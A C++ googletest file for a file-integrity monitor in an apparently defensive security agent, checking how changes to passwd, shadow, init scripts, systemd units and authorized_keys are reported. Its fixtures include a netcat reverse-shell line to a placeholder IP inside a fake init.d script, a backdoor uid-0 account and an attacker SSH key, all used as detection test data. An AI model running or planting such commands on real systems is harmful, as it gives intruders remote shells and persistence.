#include "agent/collectors/files/monitor.h"

#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "agent/platform/fake/fake_env.h"
#include "agent/platform/fake/fake_file_watcher.h"
#include "schema/schema.h"

namespace vigil::files {
namespace {

using W = WatchEvent;

TEST(NormalizeRoot, CleansSlashesAndRefusesRelativeOrDotted) {
  EXPECT_EQ(*NormalizeRoot("/etc//ssh/"), "/etc/ssh");
  EXPECT_EQ(*NormalizeRoot("/"), "/");
  EXPECT_EQ(*NormalizeRoot("/etc/passwd"), "/etc/passwd");
  EXPECT_EQ(NormalizeRoot("etc/passwd").status().code(), Status::Code::kInvalidArgument);
  EXPECT_EQ(NormalizeRoot("").status().code(), Status::Code::kInvalidArgument);
  auto dotted = NormalizeRoot("/etc/../root");
  ASSERT_FALSE(dotted.ok());
  EXPECT_NE(dotted.status().message().find("'..' component"), std::string::npos) << dotted.status().ToString();
  EXPECT_FALSE(NormalizeRoot("/etc/./passwd").ok());
}

TEST(ModeString, IsFourOctalDigits) {
  EXPECT_EQ(ModeString(0100644), "0644");
  EXPECT_EQ(ModeString(0104755), "4755");
  EXPECT_EQ(ModeString(040700), "0700");
  EXPECT_EQ(ModeString(01777), "1777");
  EXPECT_EQ(ModeString(0), "0000");
}

class MonitorTest : public ::testing::Test {
 protected:
  void SetUp() override {
    env_.SetFile("/etc/passwd", "root:x:0:0::/root:/bin/sh\n", Info(0644, 1));
    env_.SetFile("/etc/shadow", "root:*:19000::::::\n", Info(0640, 2));
    env_.SetFile("/etc/crontab", "# m h dom mon dow user command\n", Info(0644, 3));
    env_.SetFile("/etc/hosts", "127.0.0.1 localhost\n", Info(0644, 4));
    env_.SetFile("/etc/init.d/ssh", "#!/bin/sh\n", Info(0755, 5));
    env_.SetFile("/etc/systemd/system/multi-user.target.wants/cron.service", "[Unit]\n", Info(0644, 6));
    env_.MakeDirs("/root");
    env_.MakeDirs("/etc/init.d");
    env_.SetFile("/root/.profile", "PATH=/bin\n", Info(0644, 7));
    options_.roots = {"/etc/passwd", "/etc/shadow", "/etc/crontab", "/etc/init.d", "/etc/systemd/system",
                      "/root/.ssh/authorized_keys"};
    options_.coalesce_ms = 500;
  }

  // Every event validates against schema/events.yml.
  void TearDown() override {
    const auto& schema = schema::BuiltinSchema();
    ASSERT_TRUE(schema.ok()) << schema.status().ToString();
    std::vector<Event> all = taken_;
    all.insert(all.end(), events_.begin(), events_.end());
    for (Event e : all) {
      e.device = "test-device";
      e.seq = 1;
      const Json j = EventToJson(e);
      for (const schema::ValidationError& err : schema->Check(j)) ADD_FAILURE() << err.ToString() << "\n" << j.dump();
    }
  }

  FileInfo Info(uint32_t perm, uint64_t inode, int64_t mtime_s = 1'700'000'000) {
    FileInfo fi;
    fi.mode = 0100000 | perm;
    fi.inode = inode;
    fi.mtime_ns = mtime_s * 1'000'000'000;
    return fi;
  }

  // Writes a file in place: same inode and mode, a later mtime.
  void Write(const std::string& path, const std::string& content) {
    auto info = env_.Stat(path);
    ASSERT_TRUE(info.ok()) << path;
    FileInfo fi = *info;
    fi.mtime_ns += 1'000'000'000;
    env_.SetFile(path, content, fi);
  }

  void Start(FileWatcher* watcher) {
    monitor_ = std::make_unique<FileMonitor>(env_, stats_, watcher, options_,
                                             [this](Event&& e) { events_.push_back(std::move(e)); });
    monitor_->Start();
  }
  void Start() { Start(&watcher_); }

  void Push(const std::string& dir, uint32_t mask, const std::string& name, uint32_t cookie = 0) {
    ASSERT_TRUE(watcher_.Push(dir, mask, name, cookie)) << dir << " is not watched";
  }

  // Hands the queued notifications to the monitor.
  void Deliver() {
    std::vector<WatchEvent> got;
    ASSERT_TRUE(watcher_.Read(0, &got).ok());
    monitor_->Handle(got);
  }

  // Lets the coalescing window pass and returns what was reported.
  std::vector<Event> Settle() {
    Deliver();
    monitor_->FlushDue();
    env_.manual_clock().Advance(options_.coalesce_ms);
    monitor_->FlushDue();
    return Take();
  }

  std::vector<Event> Take() {
    std::vector<Event> out;
    out.swap(events_);
    taken_.insert(taken_.end(), out.begin(), out.end());
    return out;
  }

  std::string Sha(const std::string& path) { return *env_.Sha256File(path, 1 << 20); }

  FakeEnv env_;
  FakeFileWatcher watcher_{env_};
  CollectorStats stats_{"files"};
  MonitorOptions options_;
  std::unique_ptr<FileMonitor> monitor_;
  std::vector<Event> events_;
  std::vector<Event> taken_;
};

TEST_F(MonitorTest, StartWatchesParentsAndDirectoriesAndReportsNothing) {
  Start();
  EXPECT_EQ(watcher_.Watched(), (std::vector<std::string>{"/etc", "/etc/init.d", "/etc/systemd",
                                                          "/etc/systemd/system",
                                                          "/etc/systemd/system/multi-user.target.wants", "/root"}));
  EXPECT_TRUE(events_.empty());
  // Roots (one missing) and the directories' entries.
  EXPECT_EQ(monitor_->known_paths(), 6u + 3u);
  EXPECT_EQ(stats_.count("sha256_computed"), 5u);
}

TEST_F(MonitorTest, InPlaceEditIsOneModifiedEventAfterTheWindow) {
  Start();
  const std::string before = Sha("/etc/passwd");
  Write("/etc/passwd", "root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n");
  Push("/etc", W::kModify, "passwd");
  Push("/etc", W::kModify, "passwd");
  Push("/etc", W::kCloseWrite, "passwd");
  Deliver();
  monitor_->FlushDue();
  EXPECT_TRUE(events_.empty());  // still within the window
  EXPECT_EQ(monitor_->NextDeadline(), env_.manual_clock().MonotonicMs() + 500);
  env_.manual_clock().Advance(500);
  monitor_->FlushDue();
  std::vector<Event> events = Take();
  ASSERT_EQ(events.size(), 1u);
  const Event& e = events[0];
  EXPECT_EQ(e.type, "file");
  EXPECT_EQ(e.action, "modified");
  EXPECT_TRUE(e.agg_key.empty());
  EXPECT_EQ(e.data["path"], "/etc/passwd");
  EXPECT_EQ(e.data["root"], "/etc/passwd");
  EXPECT_EQ(e.data["type"], "file");
  EXPECT_EQ(e.data["sha256"], Sha("/etc/passwd"));
  EXPECT_EQ(e.data["previous_sha256"], before);
  EXPECT_EQ(e.data["size"], env_.Content("/etc/passwd").size());
  EXPECT_EQ(e.data["mode"], "0644");
  EXPECT_EQ(e.data["uid"], 0);
  EXPECT_EQ(e.data["mtime"], int64_t{1'700'000'001'000});
  EXPECT_FALSE(e.data.contains("replaced"));
  EXPECT_EQ(monitor_->NextDeadline(), INT64_MAX);
}

TEST_F(MonitorTest, WritesKeepTheWindowOpenUpToFourTimesIt) {
  Start();
  for (int i = 0; i < 6; ++i) {
    Write("/etc/crontab", "version " + std::to_string(i) + "\n");
    Push("/etc", W::kModify, "crontab");
    Deliver();
    monitor_->FlushDue();
    if (i < 5) {
      EXPECT_TRUE(events_.empty()) << i;
    }
    env_.manual_clock().Advance(400);
  }
  // The first write was at 0; the event left at 2000 ms (4 x 500), with the content then.
  std::vector<Event> events = Take();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].data["sha256"], Sha("/etc/crontab"));
}

TEST_F(MonitorTest, ReplacedByRenameIsModifiedWithReplacedAndSource) {
  Start();
  // As shadow-utils does: write /etc/passwd+, rename it over /etc/passwd.
  env_.SetFile("/etc/passwd+", "root:x:0:0::/root:/bin/bash\n", Info(0644, 99));
  Push("/etc", W::kCreate, "passwd+");
  Push("/etc", W::kModify, "passwd+");
  ASSERT_TRUE(env_.Rename("/etc/passwd+", "/etc/passwd").ok());
  Push("/etc", W::kMovedFrom, "passwd+", 42);
  Push("/etc", W::kMovedTo, "passwd", 42);
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "modified");
  EXPECT_EQ(events[0].data["path"], "/etc/passwd");
  EXPECT_EQ(events[0].data["replaced"], true);
  EXPECT_EQ(events[0].data["moved_from"], "/etc/passwd+");
  EXPECT_EQ(events[0].data["sha256"], Sha("/etc/passwd"));
}

TEST_F(MonitorTest, MissingFileAndDirectoryCreatedLater) {
  Start();
  EXPECT_FALSE(watcher_.IsWatched("/root/.ssh"));
  env_.MakeDirs("/root/.ssh");
  Push("/root", W::kCreate | W::kIsDir, ".ssh");
  Deliver();
  EXPECT_TRUE(watcher_.IsWatched("/root/.ssh"));
  EXPECT_FALSE(watcher_.IsWatched("/root")) << "no longer needed";
  env_.SetFile("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n", Info(0600, 50));
  Push("/root/.ssh", W::kCreate, "authorized_keys");
  Push("/root/.ssh", W::kModify, "authorized_keys");
  Push("/root/.ssh", W::kCloseWrite, "authorized_keys");
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "created");
  EXPECT_EQ(events[0].data["path"], "/root/.ssh/authorized_keys");
  EXPECT_EQ(events[0].data["mode"], "0600");
  EXPECT_EQ(events[0].data["sha256"], Sha("/root/.ssh/authorized_keys"));
  EXPECT_FALSE(events[0].data.contains("previous_sha256"));
}

TEST_F(MonitorTest, FileCreatedBeforeItsDirectoryWasWatchedIsFound) {
  Start();
  // mkdir -p /root/.ssh && echo key > /root/.ssh/authorized_keys, faster than the watch.
  env_.SetFile("/root/.ssh/authorized_keys", "ssh-rsa AAAA\n", Info(0600, 51));
  Push("/root", W::kCreate | W::kIsDir, ".ssh");
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "created");
  EXPECT_EQ(events[0].data["path"], "/root/.ssh/authorized_keys");
}

TEST_F(MonitorTest, DeletedAndMovedAway) {
  Start();
  const std::string shadow = Sha("/etc/shadow");
  env_.RemovePath("/etc/shadow");
  Push("/etc", W::kDelete, "shadow");
  ASSERT_TRUE(env_.Rename("/etc/crontab", "/etc/crontab.bak").ok());
  Push("/etc", W::kMovedFrom, "crontab", 9);
  Push("/etc", W::kMovedTo, "crontab.bak", 9);
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].action, "moved");
  EXPECT_EQ(events[0].data["path"], "/etc/crontab");
  EXPECT_EQ(events[0].data["moved_to"], "/etc/crontab.bak");
  EXPECT_EQ(events[0].data["type"], "file");
  EXPECT_FALSE(events[0].data.contains("sha256"));
  EXPECT_EQ(events[1].action, "deleted");
  EXPECT_EQ(events[1].data["path"], "/etc/shadow");
  EXPECT_EQ(events[1].data["previous_sha256"], shadow);
  EXPECT_FALSE(events[1].data.contains("size"));

  // Created again later: created, compared with nothing.
  env_.SetFile("/etc/shadow", "root:!:19000::::::\n", Info(0640, 77));
  Push("/etc", W::kCreate, "shadow");
  events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "created");
}

TEST_F(MonitorTest, ChmodAndChownAreAttributes) {
  Start();
  FileInfo fi = *env_.Stat("/etc/shadow");
  fi.mode = 0100666;
  fi.gid = 42;
  env_.SetFile("/etc/shadow", env_.Content("/etc/shadow"), fi);
  Push("/etc", W::kAttrib, "shadow");
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "attributes");
  EXPECT_EQ(events[0].data["mode"], "0666");
  EXPECT_EQ(events[0].data["previous_mode"], "0640");
  EXPECT_EQ(events[0].data["gid"], 42);
  EXPECT_EQ(events[0].data["previous_gid"], 0);
  EXPECT_FALSE(events[0].data.contains("previous_uid"));
  EXPECT_FALSE(events[0].data.contains("previous_sha256"));

  // touch: only the mtime changes.
  fi.mtime_ns += 5'000'000'000;
  env_.SetFile("/etc/shadow", env_.Content("/etc/shadow"), fi);
  Push("/etc", W::kAttrib, "shadow");
  events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "attributes");
  EXPECT_FALSE(events[0].data.contains("previous_mode"));
}

TEST_F(MonitorTest, RewrittenWithTheSameContentIsModified) {
  Start();
  Write("/etc/passwd", env_.Content("/etc/passwd"));
  Push("/etc", W::kModify, "passwd");
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "modified");
  EXPECT_EQ(events[0].data["sha256"], events[0].data["previous_sha256"]);
}

TEST_F(MonitorTest, NotificationsWithoutAChangeReportNothing) {
  Start();
  Push("/etc", W::kCloseWrite, "passwd");  // opened for writing, nothing written
  EXPECT_TRUE(Settle().empty());
}

TEST_F(MonitorTest, OtherFilesInAWatchedParentAreIgnored) {
  Start();
  Write("/etc/hosts", "10.0.0.1 evil\n");
  Push("/etc", W::kModify, "hosts");
  Write("/root/.profile", "PATH=/tmp\n");
  Push("/root", W::kModify, ".profile");
  EXPECT_TRUE(Settle().empty());
}

TEST_F(MonitorTest, EntriesOfWatchedDirectoriesDownToMaxDepth) {
  Start();
  env_.SetFile("/etc/init.d/evil", "#!/bin/sh\nnc -e /bin/sh 192.0.2.7 4444\n", Info(0755, 60));
  Push("/etc/init.d", W::kCreate, "evil");
  Push("/etc/init.d", W::kCloseWrite, "evil");
  env_.SetLink("/etc/systemd/system/multi-user.target.wants/evil.service", "/etc/init.d/evil");
  Push("/etc/systemd/system/multi-user.target.wants", W::kCreate, "evil.service");
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].action, "created");
  EXPECT_EQ(events[0].data["path"], "/etc/init.d/evil");
  EXPECT_EQ(events[0].data["root"], "/etc/init.d");
  EXPECT_EQ(events[0].data["mode"], "0755");
  EXPECT_EQ(events[1].data["path"], "/etc/systemd/system/multi-user.target.wants/evil.service");
  EXPECT_EQ(events[1].data["root"], "/etc/systemd/system");
  EXPECT_EQ(events[1].data["type"], "symlink");
  EXPECT_EQ(events[1].data["link_target"], "/etc/init.d/evil");
  EXPECT_EQ(events[1].data["sha256"], Sha("/etc/init.d/evil"));  // of what it points to

  // A new subdirectory is watched; entries below max_depth are not reported.
  env_.SetFile("/etc/systemd/system/x.d/deeper/file.conf", "x\n", Info(0644, 61));
  Push("/etc/systemd/system", W::kCreate | W::kIsDir, "x.d");
  events = Settle();
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].data["path"], "/etc/systemd/system/x.d");
  EXPECT_EQ(events[0].data["type"], "directory");
  EXPECT_FALSE(events[0].data.contains("size"));
  EXPECT_EQ(events[1].data["path"], "/etc/systemd/system/x.d/deeper");
  EXPECT_TRUE(watcher_.IsWatched("/etc/systemd/system/x.d"));
  EXPECT_FALSE(watcher_.IsWatched("/etc/systemd/system/x.d/deeper"));
}

TEST_F(MonitorTest, CreatedAndDeletedWithinTheWindowIsCountedNotReported) {
  Start();
  Push("/etc/init.d", W::kCreate, ".swp");
  Push("/etc/init.d", W::kDelete, ".swp");
  EXPECT_TRUE(Settle().empty());
  EXPECT_EQ(stats_.count("transient"), 1u);
}

TEST_F(MonitorTest, RemovedDirectoryReportsItsEntriesAndItself) {
  Start();
  env_.RemovePath("/etc/init.d");
  Push("/etc/init.d", W::kDelete, "ssh");
  Push("/etc/init.d", W::kDeleteSelf, "");
  Push("/etc/init.d", W::kIgnored, "");
  Push("/etc", W::kDelete | W::kIsDir, "init.d");
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].data["path"], "/etc/init.d");
  EXPECT_EQ(events[0].data["type"], "directory");
  EXPECT_EQ(events[0].action, "deleted");
  EXPECT_EQ(events[1].data["path"], "/etc/init.d/ssh");
  EXPECT_FALSE(watcher_.IsWatched("/etc/init.d"));
}

TEST_F(MonitorTest, DirectoryMovedAwayTakesItsEntries) {
  Start();
  env_.RemovePath("/etc/systemd/system/multi-user.target.wants");
  Push("/etc/systemd/system", W::kMovedFrom | W::kIsDir, "multi-user.target.wants", 5);
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "moved");
  env_.manual_clock().Advance(500);
  monitor_->FlushDue();
  events = Take();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].data["path"], "/etc/systemd/system/multi-user.target.wants/cron.service");
}

TEST_F(MonitorTest, OverflowIsCountedAndEverythingIsExaminedAtOnce) {
  Start();
  Write("/etc/passwd", "changed while notifications were lost\n");
  env_.RemovePath("/etc/init.d/ssh");
  watcher_.PushOverflow();
  Deliver();  // no waiting for a window
  std::vector<Event> events = Take();
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].action, "deleted");
  EXPECT_EQ(events[0].data["path"], "/etc/init.d/ssh");
  EXPECT_EQ(events[1].action, "modified");
  EXPECT_EQ(events[1].data["path"], "/etc/passwd");
  EXPECT_EQ(stats_.dropped("queue_overflow"), 1u);
  EXPECT_EQ(stats_.count("rescans"), 1u);
}

TEST_F(MonitorTest, PollModeFindsChangesByRescanning) {
  Start(nullptr);
  EXPECT_EQ(monitor_->watches(), 0u);
  Write("/etc/passwd", "rewritten\n");
  env_.SetFile("/root/.ssh/authorized_keys", "key\n", Info(0600, 70));
  monitor_->Rescan(/*rehash=*/false);
  std::vector<Event> events = Take();
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].action, "modified");
  EXPECT_EQ(events[0].data["sha256"], Sha("/etc/passwd"));
  EXPECT_EQ(events[1].action, "created");
  const uint64_t hashed = stats_.count("sha256_computed");
  monitor_->Rescan(false);
  EXPECT_TRUE(Take().empty());
  EXPECT_EQ(stats_.count("sha256_computed"), hashed) << "unchanged files are not hashed again";
}

TEST_F(MonitorTest, LargeFilesAreNotHashed) {
  options_.hash_max_size = 8;
  Start();
  Write("/etc/passwd", "a line longer than eight bytes\n");
  Push("/etc", W::kModify, "passwd");
  std::vector<Event> events = Settle();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].action, "modified");
  EXPECT_FALSE(events[0].data.contains("sha256"));
  EXPECT_GE(stats_.count("sha256_skipped_size"), 1u);
}

TEST_F(MonitorTest, WatchFailuresAreCounted) {
  watcher_.FailAdd("/etc/init.d", Status::Unavailable("fs.inotify.max_user_watches reached"));
  Start();
  EXPECT_FALSE(watcher_.IsWatched("/etc/init.d"));
  EXPECT_EQ(stats_.count("watch_failed"), 1u);
}

TEST_F(MonitorTest, EntriesBeyondTheLimitAreCounted) {
  options_.max_entries = 16;
  for (int i = 0; i < 20; ++i) env_.SetFile("/etc/init.d/s" + std::to_string(100 + i), "x\n", Info(0755, 200 + i));
  Start();
  EXPECT_LE(monitor_->known_paths(), 16u + options_.roots.size());
  EXPECT_GE(stats_.count("entries_over_limit"), 1u);
}

}  // namespace
}  // namespace vigil::files
